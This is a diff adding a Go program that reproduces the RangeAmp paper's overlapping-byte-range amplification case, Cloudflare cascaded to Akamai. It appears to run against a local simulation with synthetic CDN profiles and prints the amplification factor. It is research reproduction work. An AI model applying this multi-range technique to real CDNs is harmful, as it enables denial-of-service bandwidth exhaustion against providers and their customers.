@@ -1,0 +1,55 @@
+// obr_cascade reproduces the paper's strongest OBR case (Table V row
+// "Cloudflare -> Akamai"): the attacker cascades two CDNs, disables
+// range support on their own origin, and sends one multi-range request
+// whose n overlapping "0-" ranges make the BCDN ship n copies of the
+// resource across the fcdn-bcdn link.
+package main
+
+import (
+	"fmt"
+	"log"
+
+	rangeamp "repro"
+)
+
+func main() {
+	if err := run(); err != nil {
+		log.Fatal(err)
+	}
+}
+
+func run() error {
+	const path = "/1KB.bin"
+
+	// The attacker's own origin: a 1 KB file, range support disabled.
+	store := rangeamp.NewStore()
+	store.AddSynthetic(path, 1024, "application/octet-stream")
+
+	// FCDN = Cloudflare (Bypass rule applied automatically),
+	// BCDN = Akamai (serves overlapping multipart replies).
+	topo, err := rangeamp.NewOBRTopology(rangeamp.Cloudflare(), rangeamp.Akamai(), store)
+	if err != nil {
+		return err
+	}
+	defer topo.Close()
+
+	// Plan the maximum n the header limits allow, then attack.
+	plan := rangeamp.PlanMaxN(topo.FCDN.Profile(), topo.BCDN.Profile(), path)
+	fmt.Printf("planned n from header limits: %d overlapping ranges (lead token %q)\n",
+		plan.N, plan.FirstToken)
+
+	result, err := rangeamp.RunOBR(topo, path, 0)
+	if err != nil {
+		return err
+	}
+
+	fmt.Println("\nOBR attack: client -> Cloudflare(FCDN) -> Akamai(BCDN) -> origin")
+	fmt.Printf("  multi-range request  : %d overlapping ranges over a 1KB resource\n", result.Case.N)
+	fmt.Printf("  origin -> BCDN       : %d bytes (one 200 with the full 1KB copy)\n",
+		result.Amplification.AttackerBytes)
+	fmt.Printf("  BCDN -> FCDN         : %d bytes (a %d-part multipart response)\n",
+		result.Amplification.VictimBytes, result.Parts)
+	fmt.Printf("  amplification factor : %.2fx\n", result.Amplification.Factor())
+	fmt.Printf("\n(paper's Table V reports 7432.53x for this pair with n=10750)\n")
+	return nil
+}
